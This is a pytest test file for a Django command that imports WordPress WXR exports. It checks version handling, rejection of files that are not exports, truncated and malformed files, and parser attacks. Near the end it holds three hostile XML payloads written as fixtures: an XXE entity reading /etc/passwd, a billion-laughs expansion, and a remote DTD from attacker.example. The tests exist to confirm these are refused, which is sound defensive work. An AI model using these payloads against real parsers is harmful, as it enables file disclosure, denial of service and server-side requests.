"""Files that are not what they claim, cut short, or made to attack the parser."""

import re

import pytest
from django.core.management.base import CommandError

from articles.models import Article
from comments.models import Comment


def test_every_wxr_version_and_namespace_spelling_is_read(run, data):
    run("import_wordpress", str(data / "lighthouse-1.1.xml"))
    run("import_wordpress", str(data / "mill-1.0.xml"))
    lamp = Article.objects.get(slug="lamp-relit")
    assert "<p>Line one<br>\nline two</p>" in lamp.body_html
    assert "<p>Второй абзац.</p>" in lamp.body_html
    assert lamp.comments.get().author_name == "Olu"
    mill = Article.objects.get(slug="mill-wheel")
    assert mill.comments.get().body == "Hi, this is a comment."
    # WXR 1.0 lists no authors: the login is the name.
    assert mill.credits.get().contributor.name == "admin"


def test_the_https_and_http_namespaces_give_the_same_import(run, data, tmp_path):
    http = (
        (data / "harbour-1.2.xml")
        .read_text()
        .replace("https://wordpress.org/export/1.2/", "http://wordpress.org/export/1.2/")
    )
    path = tmp_path / "http.xml"
    path.write_text(http)
    run("import_wordpress", str(path))
    assert Comment.objects.filter(article__slug="ferry-timetable-cut").count() == 6


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("", "the file is empty"),
        ("   \n", "the file is empty"),
        ("<html><body>Hi</body></html>", "this is not a WordPress export (it starts with <html>)"),
        ("%PDF-1.4 binary", "line 1: not well-formed (invalid token)"),
    ],
)
def test_a_file_that_is_no_export_is_refused_with_a_reason(run, tmp_path, content, message):
    path = tmp_path / "export.xml"
    path.write_text(content)
    with pytest.raises(CommandError, match=re.escape(message)):
        run("import_wordpress", str(path))


def test_an_rss_feed_that_is_not_wxr_is_refused(run, data):
    with pytest.raises(CommandError, match="not a WordPress export"):
        run("import_wordpress", str(data / "not-wordpress.xml"))


# WordPress 2.5 wrote no wp:wxr_version; exports trimmed by hand often lose it too.
UNVERSIONED = """<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
     xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="http://wordpress.org/export/1.0/">
<channel><title>Old blog</title><link>http://old.example</link>
<item><title>Ferry timetable</title><link>http://old.example/?p=7</link>
<dc:creator>editor</dc:creator><content:encoded><![CDATA[Boats run hourly.]]></content:encoded>
<wp:post_id>7</wp:post_id><wp:post_date_gmt>2008-03-02 09:00:00</wp:post_date_gmt>
<wp:post_name>ferry-timetable</wp:post_name><wp:status>publish</wp:status>
<wp:post_type>post</wp:post_type>
<wp:comment><wp:comment_id>3</wp:comment_id><wp:comment_author>Ines</wp:comment_author>
<wp:comment_date_gmt>2008-03-02 10:00:00</wp:comment_date_gmt>
<wp:comment_content>And on Sundays?</wp:comment_content>
<wp:comment_approved>1</wp:comment_approved><wp:comment_parent>0</wp:comment_parent></wp:comment>
</item></channel></rss>"""


def test_an_export_without_a_version_line_is_read_when_its_items_are_wordpress_posts(
    run, tmp_path
):
    path = tmp_path / "old.xml"
    path.write_text(UNVERSIONED)

    output = run("import_wordpress", str(path))

    article = Article.objects.get(slug="ferry-timetable")
    assert article.headline == "Ferry timetable"
    assert article.comments.get().body == "And on Sundays?"
    assert "posts created: 1" in output


def test_a_missing_file_is_a_clear_error(run, tmp_path):
    with pytest.raises(CommandError, match="No such file"):
        run("import_wordpress", str(tmp_path / "nothing.xml"))


def test_a_file_cut_short_keeps_what_came_before_and_a_rerun_continues(run, data, tmp_path):
    text = (data / "harbour-1.2.xml").read_text()
    # Cut in the middle of the third post: the first (with its comments) is whole.
    cut = text[: text.index("Scheduled story.")]
    path = tmp_path / "cut.xml"
    path.write_text(cut)
    with pytest.raises(CommandError) as failure:
        run("import_wordpress", str(path))
    line = cut.count("\n") + 1
    assert f"line {line}: unclosed CDATA section" in str(failure.value)
    assert "run the command again to continue" in str(failure.value)
    assert Article.objects.get().slug == "ferry-timetable-cut"
    assert Comment.objects.count() == 6

    path.write_text(text)
    out = run("import_wordpress", str(path))
    assert "posts unchanged: 1" in out and "posts created: 2" in out
    assert Article.objects.count() == 3 and Comment.objects.count() == 6


def test_a_malformed_file_names_the_line(run, data, tmp_path):
    text = (data / "harbour-1.2.xml").read_text()
    broken = text.replace("<wp:post_id>102</wp:post_id>", "<wp:post_id>102</wp:postid>")
    path = tmp_path / "broken.xml"
    path.write_text(broken)
    line = broken[: broken.index("</wp:postid>")].count("\n") + 1
    with pytest.raises(CommandError, match=f"line {line}: mismatched tag"):
        run("import_wordpress", str(path))
    assert Article.objects.filter(slug="ferry-timetable-cut").exists()


XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version>
<item><title>&secret;</title><wp:post_id>1</wp:post_id><wp:status>publish</wp:status>
<wp:post_type>post</wp:post_type></item></channel></rss>"""

LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version>
<item><title>&c;</title><wp:post_id>1</wp:post_id><wp:status>publish</wp:status>
<wp:post_type>post</wp:post_type></item></channel></rss>"""

REMOTE_DTD = """<?xml version="1.0"?>
<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><wp:wxr_version>1.2</wp:wxr_version>
<item><title>&remote;</title><wp:post_id>1</wp:post_id><wp:status>publish</wp:status>
<wp:post_type>post</wp:post_type></item></channel></rss>"""


@pytest.mark.parametrize("attack", [XXE, LAUGHS, REMOTE_DTD], ids=["xxe", "laughs", "dtd"])
def test_entities_are_never_expanded_nor_fetched(run, tmp_path, attack):
    path = tmp_path / "attack.xml"
    path.write_text(attack)
    with pytest.raises(CommandError, match=r"line \d: .*entit"):
        run("import_wordpress", str(path))
    assert not Article.objects.exists()
